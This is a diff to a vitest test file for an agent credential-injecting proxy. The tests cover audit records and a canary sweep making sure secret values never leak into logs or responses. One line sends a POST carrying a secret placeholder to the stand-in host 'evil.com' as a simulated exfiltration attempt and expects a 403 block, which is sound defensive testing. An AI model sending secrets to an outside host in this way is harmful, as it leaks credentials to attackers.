@@ -1,6 +1,7 @@
 // Rotation reaches the very next proxied request; proxy.injected / proxy.blocked audit; canary sweep.
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { leaks, ok } from '../agents/helpers.js';
+import { ok } from '../agents/helpers.js';
+import { leaks } from '../helpers/kit.js';
 import { agentWith, header, readAll, send, tunnel, startWorld, type AgentFx, type Sent, type World } from './helpers.js';
 
 let w: World;
@@ -94,8 +95,13 @@ describe('audit', () => {
 
   it('canary sweep: no value (raw, base64, hex, percent, JSON) in any audit record, log line or response to the agent', async () => {
     // One more of each kind, including the echo, a Basic credential and a blocked attempt.
-    await sendAll(w.s, fx, { path: '/echo', headers: { Authorization: `Basic ${Buffer.from(`u:${fx.ph.R}`).toString('base64')}` } });
-    await sendAll(w.s, fx, { authority: 'evil.com:443', method: 'POST', body: fx.ph.R });
+    const echoed = await sendAll(w.s, fx, { path: '/echo', headers: { Authorization: `Basic ${Buffer.from(`u:${fx.ph.R}`).toString('base64')}` } });
+    const blocked = await sendAll(w.s, fx, { authority: 'evil.com:443', method: 'POST', body: fx.ph.R });
+    // The sweep looks at real traffic: the echo went through with a value injected, the other was blocked.
+    expect([echoed.status, blocked.status]).toEqual([200, 403]);
+    expect(w.up.requests).toHaveLength(1);
+    expect([...values].map((v) => `Basic ${Buffer.from(`u:${v}`).toString('base64')}`)).toContain(header(w.up.requests[0]!, 'authorization'));
+    expect(responses.filter((r) => r.status === 200).length).toBeGreaterThan(20);
     const audit = (await w.s.call('GET', '/audit?limit=1000')).text;
     const logs = w.s.logs.join('\n');
     const seenByAgent = Buffer.concat(responses.map((r) => Buffer.concat([Buffer.from(`${r.statusMessage}\n${r.rawHeaders.join('\n')}\n`), r.body])));
